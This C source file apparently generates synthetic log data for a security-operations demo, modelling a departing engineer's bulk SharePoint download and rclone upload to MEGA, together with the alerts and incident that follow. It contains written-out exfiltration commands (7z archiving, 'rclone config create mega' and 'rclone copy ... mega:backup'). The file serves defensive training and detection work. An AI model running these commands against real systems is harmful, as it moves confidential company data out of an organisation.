/* Story: data exfiltration to cloud storage. A departing engineer bulk-downloads
 * project files, zips them and uploads them to MEGA with rclone one evening. */
#include "demo_int.h"

#include <stdio.h>

void demo_story_exfil(demo_ctx *c) {
    const demo_org *o = &c->org;
    const demo_plan *p = &c->plan;
    demo_rng r;
    demo_rng_seed(&r, c->opt.seed, "story-exfil", 0);
    int v = p->ex_user;
    const demo_user *vu = &o->users[v];
    int dev = vu->device;
    const demo_device *dv = &o->devices[dev];
    int64_t t0 = p->ex_begin;
    /* he stays late at the office: traffic leaves through the office firewall */
    const char *ip = demo_offices[vu->office].egress[0];
    const demo_geo *geo = demo_geo_find(vu->office == OFF_MUNICH ? "Munich" : "Chicago");
    demo_story *s = demo_story_new(c, "exfil", "Data exfiltration to a cloud storage service");
    s->summary = "An engineer who has handed in his notice downloads 160 project files from the "
                 "Engineering and R&D SharePoint sites one evening, creates anonymous sharing links, "
                 "zips the lot, downloads rclone and uploads 4 GB to MEGA. The account is disabled "
                 "the next morning.";
    s->techniques = "T1530, T1213.002, T1560.001, T1567.002, T1048";

    /* HR records the leave date two days before. */
    demo_audit(c, &(dm_audit){.t = t0 - 2 * DEMO_DAY - 3 * DEMO_HOUR, .op = "Update user", .actor = o->admins[1],
                              .actor_ip = demo_offices[OFF_CHICAGO].egress[0], .target = v,
                              .props = "{\"displayName\":\"EmployeeLeaveDateTime\",\"oldValue\":\"[]\",\"newValue\":\"[\\\"2025-01-31T00:00:00Z\\\"]\"}"});
    demo_signin(c, &(dm_signin){.t = t0 - 4 * DEMO_MIN, .user = v, .ip = ip, .geo = geo, .app = "Office 365 SharePoint Online",
                                .dev = dev});

    /* 1. Bulk download from SharePoint. */
    static const char *const SITES[] = {"Engineering", "RnD"};
    static const char *const STEMS[] = {"Project Falcon - design spec", "Falcon firmware build notes", "Test results",
                                        "Supplier BOM", "Roadmap 2025", "Patent draft", "Architecture review",
                                        "Customer requirements", "Tooling drawings", "Release checklist"};
    static const char *const EXT[] = {"docx", "pdf", "xlsx", "dwg", "pptx"};
    int n = 160;
    for (int k = 0; k < n; k++) {
        const char *site = SITES[k % 2];
        const char *file = demo_tmpf(c, "%s %02d.%s", STEMS[k % 10], k / 10 + 1, EXT[k % 5]);
        const char *url = demo_tmpf(c, "https://contoso.sharepoint.com/sites/%s/", site);
        int64_t t = t0 + (int64_t)k * 17 * DEMO_SEC + demo_rng_range(&r, 0, 9000) * SP_TICKS_PER_MS;
        demo_office_activity(c, &(dm_office){.t = t, .user = v, .ip = ip, .workload = "SharePoint", .op = "FileDownloaded",
                                             .site_url = url, .rel_url = "Shared Documents/Falcon", .file = file,
                                             .object_id = demo_tmpf(c, "%sShared Documents/Falcon/%s", url, file),
                                             .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80"});
        if (k % 6 == 0)
            demo_file(c, &(dm_file){.t = t + 2 * DEMO_SEC, .dev = dev, .user = v, .name = file,
                                    .dir = "C:\\Users\\%USER%\\Downloads\\Falcon",
                                    .origin_url = demo_tmpf(c, "%sShared%%20Documents/Falcon/%s", url, file), .proc = "msedge.exe"});
    }
    demo_story_event(c, s, t0, "OfficeActivity", "160 files downloaded from the Engineering and R&D sites in 45 minutes");
    for (int k = 0; k < 3; k++)
        demo_office_activity(c, &(dm_office){.t = t0 + 47 * DEMO_MIN + k * DEMO_MIN, .user = v, .ip = ip, .workload = "SharePoint",
                                             .op = "AnonymousLinkCreated", .record_type = "SharePointSharingOperation",
                                             .site_url = "https://contoso.sharepoint.com/sites/Engineering/",
                                             .rel_url = "Shared Documents/Falcon",
                                             .file = demo_tmpf(c, "%s 0%d.pdf", STEMS[k], k + 1),
                                             .object_id = demo_tmpf(c, "https://contoso.sharepoint.com/sites/Engineering/Shared Documents/Falcon/%s 0%d.pdf", STEMS[k], k + 1)});

    /* 2. Archive, fetch rclone, upload to MEGA. */
    int64_t tz = t0 + 52 * DEMO_MIN;
    const char *zipcmd = demo_strf(c, "\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip C:\\Users\\%s\\Documents\\falcon_backup.zip C:\\Users\\%s\\Downloads\\Falcon\\*", vu->sam, vu->sam);
    demo_proc(c, &(dm_proc){.t = tz, .dev = dev, .user = v, .file = "7z.exe", .cmd = zipcmd, .parent = "cmd.exe"});
    demo_file(c, &(dm_file){.t = tz + 4 * DEMO_MIN, .dev = dev, .user = v, .name = "falcon_backup.zip",
                            .dir = "C:\\Users\\%USER%\\Documents", .size = 4123456789L, .proc = "7z.exe", .proc_cmd = zipcmd});
    const char *rc_url = "https://downloads.rclone.org/v1.68.2/rclone-v1.68.2-windows-amd64.zip";
    demo_file(c, &(dm_file){.t = tz + 6 * DEMO_MIN, .dev = dev, .user = v, .name = "rclone-v1.68.2-windows-amd64.zip",
                            .dir = "C:\\Users\\%USER%\\Downloads", .size = 22304412, .origin_url = rc_url,
                            .referrer = "https://rclone.org/downloads/", .proc = "msedge.exe"});
    const char *rc_dir = "C:\\Users\\%USER%\\Downloads\\rclone-v1.68.2-windows-amd64";
    demo_file(c, &(dm_file){.t = tz + 7 * DEMO_MIN, .dev = dev, .user = v, .name = "rclone.exe", .dir = rc_dir,
                            .size = 61263872, .proc = "explorer.exe"});
    const char *cfg = "rclone.exe config create mega mega user falcon.archive@proton.me pass ********";
    const char *up = demo_strf(c, "rclone.exe copy C:\\Users\\%s\\Documents\\falcon_backup.zip mega:backup --transfers 8 --progress", vu->sam);
    demo_proc(c, &(dm_proc){.t = tz + 8 * DEMO_MIN, .dev = dev, .user = v, .file = "rclone.exe", .dir = rc_dir, .cmd = cfg,
                            .parent = "cmd.exe", .signature = "Valid"});
    int64_t tu = tz + 9 * DEMO_MIN;
    demo_proc(c, &(dm_proc){.t = tu, .dev = dev, .user = v, .file = "rclone.exe", .dir = rc_dir, .cmd = up, .parent = "cmd.exe"});
    demo_story_event(c, s, tu, "DeviceProcessEvents", "rclone copy falcon_backup.zip mega:backup");
    demo_net(c, &(dm_net){.t = tu + 2 * DEMO_SEC, .dev = dev, .user = v, .rip = IOC_EX_MEGA_IP, .rport = 443,
                          .url = IOC_EX_MEGA_API, .proc = "rclone.exe", .proc_dir = rc_dir, .proc_cmd = up});
    long total = 0;
    for (int k = 0; k < 8; k++) {
        int64_t t = tu + 5 * DEMO_SEC + k * 4 * DEMO_MIN;
        long sent = 512000000L + (long)demo_rng_below(&r, 9000000);
        total += sent;
        demo_net(c, &(dm_net){.t = t, .dev = dev, .user = v, .rip = IOC_EX_MEGA_STORE_IP, .rport = 443,
                              .url = IOC_EX_MEGA_STORE, .proc = "rclone.exe", .proc_dir = rc_dir, .proc_cmd = up});
        demo_cef(c, &(dm_cef){.t = t + 4 * DEMO_MIN, .office = dv->office, .src = dv->local_ip, .dst = IOC_EX_MEGA_STORE_IP,
                              .dport = 443, .app = "mega", .url = IOC_EX_MEGA_STORE, .user = demo_tmpf(c, "contoso\\%s", vu->sam),
                              .sent = sent, .received = 1843200 + k * 1024, .dir = "Outbound"});
    }
    demo_story_event(c, s, tu + 5 * DEMO_SEC, "CommonSecurityLog", "about 4 GB sent to MEGA storage through the firewall");

    /* 3. The account is disabled the next morning. */
    demo_audit(c, &(dm_audit){.t = p->ex_disabled, .op = "Disable account", .actor = o->admins[1],
                              .actor_ip = demo_offices[OFF_CHICAGO].egress[0], .target = v,
                              .props = "{\"displayName\":\"AccountEnabled\",\"oldValue\":\"[true]\",\"newValue\":\"[false]\"}"});
    demo_audit(c, &(dm_audit){.t = p->ex_disabled + 3 * DEMO_MIN, .op = "Remove member from group", .category = "GroupManagement",
                              .actor = o->admins[1], .actor_ip = demo_offices[OFF_CHICAGO].egress[0], .target = v,
                              .group = "SG-Engineering-Prod-Readers"});
    demo_signin(c, &(dm_signin){.t = p->ex_disabled + 40 * DEMO_MIN, .user = v, .ip = ip, .geo = geo, .app = "Microsoft Teams",
                                .dev = dev, .result = 50057});
    demo_story_event(c, s, p->ex_disabled, "AuditLogs", "account disabled");

    /* Alerts and the incident. */
    demo_alert *a1 = demo_alert_new(c, SRC_MDCA, "Mass download by a single user", "Medium", t0 + 49 * DEMO_MIN);
    a1->category = "Collection";
    a1->tactics = "Collection, Exfiltration";
    a1->techniques = "T1530, T1213.002";
    a1->desc = "A user downloaded an unusually large number of files from SharePoint in a single session.";
    a1->start = t0;
    a1->end = t0 + 45 * DEMO_MIN;
    demo_ent_user(a1, v);
    demo_ent_ip(a1, ip);
    demo_ent_app(a1, "Microsoft SharePoint Online");

    demo_alert *a2 = demo_alert_new(c, SRC_MDE, "Rclone used to copy data to a cloud storage service", "High", tu + 3 * DEMO_MIN);
    a2->category = "Exfiltration";
    a2->tactics = "Exfiltration";
    a2->techniques = "T1567.002, T1048";
    a2->detection = "Custom detection";
    a2->desc = "Custom detection rule 'Rclone to cloud storage' matched a copy to a MEGA remote.";
    a2->start = a2->end = tu;
    demo_ent_host(a2, dev);
    demo_ent_user(a2, v);
    demo_ent_proc(a2, dev, up, "rclone.exe", demo_strf(c, "C:\\Users\\%s\\Downloads\\rclone-v1.68.2-windows-amd64", vu->sam), tu);
    demo_ent_ip(a2, IOC_EX_MEGA_STORE_IP);
    demo_ent_url(a2, IOC_EX_MEGA_STORE);

    demo_alert *a3 = demo_alert_new(c, SRC_SENTINEL, "Large data upload to a cloud storage service from a single device", "Medium",
                                    tu + 2 * DEMO_HOUR + 4 * DEMO_MIN);
    a3->category = "Exfiltration";
    a3->tactics = "Exfiltration";
    a3->techniques = "T1567.002";
    a3->rule_id = "2b9e7d41-6c3a-4f1e-8d5b-9a0c1e2f3d44";
    a3->desc = "More than 1 GB was sent to a cloud storage domain from one internal address within an hour.";
    a3->start = tu;
    a3->end = tu + 36 * DEMO_MIN;
    a3->ext = demo_strf(c, "\"Search Query Results Overall Count\":\"8\",\"Data Sources\":\"[\\\"CommonSecurityLog\\\"]\",\"SentBytes\":\"%ld\"", total);
    demo_ent_host(a3, dev);
    demo_ent_user(a3, v);
    demo_ent_ip(a3, IOC_EX_MEGA_STORE_IP);
    demo_alert *alerts[] = {a1, a2, a3};
    for (size_t k = 0; k < SP_ARRAY_LEN(alerts); k++) alerts[k]->story = "exfil";

    demo_incident *inc = demo_incident_new(c, "Data exfiltration to cloud storage (MEGA) by a departing employee", "High",
                                           a1->time + 2 * DEMO_MIN);
    inc->story = "exfil";
    inc->desc = "Mass download from SharePoint followed by an rclone upload to MEGA from the user's laptop.";
    for (size_t k = 0; k < SP_ARRAY_LEN(alerts); k++) demo_incident_add_alert(c, inc, alerts[k]);
    inc->owner = o->analysts[4 % o->nanalysts];
    inc->assigned_at = p->ex_disabled - 70 * DEMO_MIN;
    inc->active_at = p->ex_disabled - 60 * DEMO_MIN;
    inc->closed_at = p->ex_disabled + 26 * DEMO_HOUR;
    inc->classification = "TruePositive";
    inc->reason = "SuspiciousActivity";
    inc->class_comment = "Confirmed insider exfiltration. HR and Legal engaged; MEGA account details passed to counsel; account disabled.";
    demo_incident_label(inc, "Exfiltration", false);
    demo_incident_label(inc, "Insider risk", true);
    demo_incident_comment(inc, inc->active_at + 10 * DEMO_MIN, inc->owner,
                          "User resigned last week (leave date set by HR). rclone config points to a MEGA account on a personal mailbox.");
    demo_incident_comment(inc, p->ex_disabled + 15 * DEMO_MIN, inc->owner, "Account disabled and removed from engineering groups; laptop collected for forensics.");
    demo_rng lr;
    demo_rng_seed(&lr, c->opt.seed, "story-exfil-life", 0);
    demo_incident_lifecycle(c, inc, &lr, "Closed", "TruePositive");

    demo_story_fact(c, s, "user", vu->upn);
    demo_story_fact(c, s, "device", dv->name);
    demo_story_fact(c, s, "files_downloaded", "160");
    demo_story_fact(c, s, "archive", "falcon_backup.zip");
    demo_story_fact(c, s, "tool", "rclone.exe");
    demo_story_fact(c, s, "destination", IOC_EX_MEGA_STORE);
    demo_story_fact(c, s, "destination_ip", IOC_EX_MEGA_STORE_IP);
    demo_story_fact(c, s, "bytes_sent", demo_strf(c, "%ld", total));
}
